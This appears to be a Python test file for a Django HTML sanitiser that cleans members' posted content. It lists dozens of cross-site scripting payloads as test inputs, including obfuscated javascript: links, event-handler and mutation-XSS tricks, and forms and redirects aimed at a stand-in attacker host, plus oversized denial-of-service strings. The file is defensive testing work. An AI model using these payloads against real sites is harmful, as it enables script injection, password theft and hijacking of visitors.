"""Members' HTML: attacks are removed, and text is not lost."""

from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given, settings
from hypothesis import strategies as st

from content.fields import CleanHTMLField
from content.html import ATTRIBUTES, MAX_LENGTH, PROTOCOLS, TAGS, clean, refusal_of, text_of

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script",
    "<script <script <script <script>alert(1)",
    "<script>alert(1)</script foo>b",
    "<style>*{background:url(//evil.example)}</style>",
    '<img src=x onerror="alert(1)">',
    "<img src='x' onerror=alert(1)//",
    '<p onclick="alert(1)" onmouseover=alert(1)>a</p>',
    '<a href="https://ok.example" onfocus=alert(1) autofocus>a</a>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="java&#115;cript:alert(1)">a</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href="java&Tab;script&colon;alert(1)">a</a>',
    '<a href=" \x01javascript:alert(1)">a</a>',
    '<a href="\x00javascript:alert(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="blob:https://ok.example/x">a</a>',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><p><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><p><img src=x onerror=alert(1)></p></template>",
    "<textarea><a title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><a title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<p hx-get='/admin/' hx-trigger=load hx-on:click='alert(1)'>a</p>",
    "<p data-hx-get='/admin/' data-focus data-writing>a</p>",
    "<p style='position:fixed;inset:0' class='btn btn--danger' id='id_title'>a</p>",
    "<embed embedtype='image' id='1' format='fullwidth' alt='x'>",
    "<a linktype='document' id='1'>a</a>",
    "<iframe src='//evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action='//evil.example'><input name=password><button>a</button></form>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<object data='x.swf'></object><applet></applet>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a href='https://ok.example' title='\"><img src=x onerror=alert(1)>'>a</a>",
    "<a title='&lt;/a&gt;&lt;script&gt;'>a</a>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    "<p><strong><em>unclosed <ul><li>one<li>two",
    "</p></strong>only closed",
    "<p><ul><blockquote><p></ul></p>crossed</blockquote>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "1 < 2 & 3 > 2",
]


class Seen(HTMLParser):
    """Fails on any element, attribute or comment that is not allowed."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS
        allowed = {"href", "title", "rel"} if tag in ATTRIBUTES else set()
        assert {name for name, _value in attrs} <= allowed
        for name, value in attrs:
            if name == "href" and ":" in value.partition("/")[0]:
                assert value.partition(":")[0].lower() in PROTOCOLS

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def check(html: str) -> str:
    cleaned = clean(html)
    seen = Seen()
    seen.feed(cleaned)
    seen.close()
    assert clean(cleaned) == cleaned
    return cleaned


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_is_left_of_an_attack(attack):
    check(attack)
    check(f"<p>before</p>{attack}<p>after</p>")
    check(f"<ul><li><p>{attack}</p></li></ul>")


@pytest.mark.parametrize("tag", ["script", "style", "template", "noscript", "iframe"])
def test_code_is_not_shown_as_text(tag):
    assert clean(f"<p>a</p><{tag}>needle()</{tag}>") == "<p>a</p>"


PIECES = st.sampled_from(
    [*ATTACKS, "<p>", "</p>", "<li>", "</li>", "<ul>", "</ul>", "<a href=", "'", '"', ">", "<", "&", ";", "&nbsp;",
     "\n", "\n\n", " ", "<br>", "<h3>", "</h3>", "<code>", "<pre>", "\x0c", "\r", "é", "<blockquote>", "</a>"]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES | st.text(max_size=8), max_size=12).map("".join))
def test_whatever_is_typed_comes_out_harmless_and_stays_as_it_is(html):
    check(html)


def test_what_the_editor_offers_comes_through_unchanged():
    text = (
        "<h3>One</h3><p>A <strong>b</strong> <em>c</em> <s>d</s><br>e</p><ol><li>f</li></ol><blockquote><p>g</p>"
        '</blockquote><p><a href="https://ok.example/?a=1&amp;b=2" title="t" rel="nofollow ugc noopener">h</a></p>'
    )
    assert clean(text) == text


@pytest.mark.parametrize(
    ("typed", "cleaned"),
    [
        ("<ul><li><p>one</p></li><li>\n<p>two</p> </li></ul>", "<ul><li>one</li><li>two</li></ul>"),
        # Only if the paragraph is the only content of the item.
        ("<ul><li><p>a</p><p>b</p></li></ul>", "<ul><li><p>a</p><p>b</p></li></ul>"),
        (
            "<ul><li><p>a</p><ul><li><p>b</p></li></ul></li></ul>",
            "<ul><li><p>a</p><ul><li>b</li></ul></li></ul>",
        ),
    ],
)
def test_paragraphs_of_list_items_are_unwrapped(typed, cleaned):
    assert clean(typed) == cleaned


@pytest.mark.parametrize(
    ("typed", "cleaned"),
    [
        ("One\ntwo\n\nthree & four", "<p>One<br>two</p>\n\n<p>three &amp; four</p>"),
        ("<3 rivers", "<p>&lt;3 rivers</p>"),
        ("", ""),
        (" \n", ""),
        ("<p></p><p><br></p>&nbsp;", ""),
        ("<script>alert(1)</script>", ""),
    ],
)
def test_plain_text_becomes_paragraphs_and_nothing_stays_nothing(typed, cleaned):
    assert clean(typed) == cleaned


TOO_MUCH = {
    "long": "a" * (MAX_LENGTH + 1),
    "scripts": "<script " * 20_000,
    "entities": "&" * 6_000,
    "lists": "<ul><li>" * 400,
    "hidden": "<ul><li></x><!-- </li></ul> --><a title='</li></ul>'></a>" * 200,
}


@pytest.mark.parametrize("name", TOO_MUCH)
def test_too_much_never_reaches_the_slow_parser(name, monkeypatch):
    html = TOO_MUCH[name]
    monkeypatch.setattr("content.html.bleach.clean", lambda *args, **kwargs: pytest.fail("parsed"))
    assert refusal_of(html)
    assert "<script" not in clean(html)
    assert "<ul>" not in clean(html)


def test_a_long_text_with_much_formatting_is_not_too_much():
    html = "<ul>" + "<li><p><strong>Word</strong> and some more words</p></li>" * 600 + "</ul>"
    assert refusal_of(html) == ""
    assert clean(html).count("<li>") == 600


@pytest.mark.parametrize(("html", "sentence"), [("a" * 100_001, "too long: 100,001"), ("&" * 6_000, "plain text")])
def test_the_field_refuses_too_much_in_words(html, sentence):
    with pytest.raises(ValidationError, match=sentence):
        CleanHTMLField("text").clean(html, None)


def test_the_words_of_a_text_have_no_entities():
    assert text_of("<p>Fish &amp; chips</p><p>a&nbsp;b &lt;c&gt;</p>") == "Fish & chips a b <c>"


@pytest.mark.parametrize(
    ("pasted", "cleaned"),
    [
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>", "<p>a b <br>c d <br></p>"),
        ("<p>x</p><table><tr><th>a</th><td>b</td></tr></table><p>y</p>", "<p>x</p>a b \n<p>y</p>"),
        ("<div>one</div><div>two</div>", "<p>one<br>two<br></p>"),
    ],
)
def test_cells_and_rows_of_a_table_do_not_run_into_each_other(pasted, cleaned):
    assert clean(pasted) == cleaned
    assert clean(cleaned) == cleaned
